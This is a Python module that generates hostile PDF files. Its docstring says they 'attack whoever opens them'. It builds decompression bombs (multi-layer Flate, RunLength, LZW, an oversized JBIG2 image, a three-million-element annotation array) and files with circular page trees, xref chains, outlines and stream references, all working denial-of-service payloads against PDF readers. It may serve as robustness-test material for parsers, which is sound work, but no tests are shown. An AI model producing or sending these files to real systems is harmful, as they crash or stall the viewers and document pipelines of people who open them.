"""PDF files that attack whoever opens them: streams that swell, and structures that run in a circle."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Mapping, Sequence

SWOLLEN = 400_000_000
"""How many bytes the streams claim to be."""


def assembled(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A file of these objects, numbered from one, with a cross-reference table."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"<< /Root 1 0 R /Size %d %s >>" % (len(objects) + 1, trailer.replace(b"@START", b"%d" % start))
    return bytes(out) + b"trailer " + head + b"\nstartxref\n%d\n%%%%EOF" % start


def one_page(stream: bytes, filters: bytes, more: bytes = b"") -> bytes:
    """A page whose content is this stream."""
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R %s >>" % more,
            b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (len(stream), filters, stream),
        ]
    )


def flate(layers: int) -> bytes:
    """Numbers packed so many times."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"0 " * 10_000_000) for _ in range(SWOLLEN // 20_000_000))
    packed += packer.flush()
    for _ in range(layers - 1):
        packed = zlib.compress(packed, 9)
    return one_page(packed, b"[" + b"/FlateDecode " * layers + b"]")


def run_length() -> bytes:
    """Runs of 128 blanks, two bytes each, packed once more so that the file stays small."""
    runs = zlib.compress(b"\x81 " * (SWOLLEN // 128) + b"\x80", 9)
    return one_page(runs, b"[/FlateDecode /RunLengthDecode]")


def lzw() -> bytes:
    """Ever longer runs of one byte: each code stands for a run that is one longer than the one before."""
    bits, width, word = 0, 0, bytearray()

    def put(code: int, size: int) -> None:
        nonlocal bits, width
        bits, width = bits << size | code, width + size
        while width >= 8:
            width -= 8
            word.append(bits >> width & 0xFF)
            bits &= (1 << width) - 1

    for _ in range(SWOLLEN // 7_300_000):
        put(256, 9)
        put(0x20, 9)
        for code in range(258, 4_095):
            put(code, 9 if code < 511 else 10 if code < 1_023 else 11 if code < 2_047 else 12)
        bits, width = bits << (-width % 8), width + (-width % 8)
        while width >= 8:
            width -= 8
            word.append(bits >> width & 0xFF)
            bits &= (1 << width) - 1
    return one_page(bytes(word), b"/LZWDecode")


def jbig2() -> bytes:
    """A picture of two bits that claims 65,535 by 65,535 points."""
    page = b"\x00\x00\x00\x00\x30\x00\x01\x00\x00\x00\x13" + b"\x00\x00\xff\xff" * 2 + bytes(11)
    picture = b"<< /Type /XObject /Subtype /Image /Width 65535 /Height 65535 /BitsPerComponent 1 "
    picture += b"/ColorSpace /DeviceGray /Filter /JBIG2Decode /Length %d >>\nstream\n%s\nendstream" % (
        len(page),
        page,
    )
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Resources << /XObject << /I 4 0 R >> >> >>",
            picture,
            b"<< /Length 4 >>\nstream\n/I Do\nendstream",
        ]
    )


def arrays() -> bytes:
    """An array of three million arrays inside the page."""
    return one_page(b"", b"[]", b"/Annots [" + b"[]" * 3_000_000 + b"]")


SWELLING: Mapping[str, Callable[[], bytes]] = {
    "flate": lambda: flate(1),
    "flate-twice": lambda: flate(2),
    "flate-five-times": lambda: flate(5),
    "lzw": lzw,
    "run-length": run_length,
    "jbig2": jbig2,
    "arrays": arrays,
}
"""Kind of bomb → the file."""

_LEAF = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
_ROOT = b"<< /Type /Catalog /Pages 2 0 R >>"
CIRCLES: Mapping[str, bytes] = {
    "pages": assembled([_ROOT, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 >>"]),
    "two-branches": assembled(
        [
            _ROOT,
            b"<< /Type /Pages /Kids [3 0 R] /Count 99 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 99 >>",
        ]
    ),
    "parents": assembled(
        [
            _ROOT,
            b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 3 0 R >>",
        ]
    ),
    "xref": assembled([_ROOT, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", _LEAF], b"/Prev @START"),
    "outlines": assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _LEAF,
            b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
            b"<< /Title (again) /Parent 5 0 R /Next 5 0 R /First 5 0 R /Last 5 0 R >>",
        ]
    ),
    "contents": assembled(
        [
            _ROOT,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
            b"[4 0 R 4 0 R]",
        ]
    ),
    "lengths": assembled(
        [
            _ROOT,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
            b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream",
        ]
    ),
}
"""What runs in a circle → the file."""
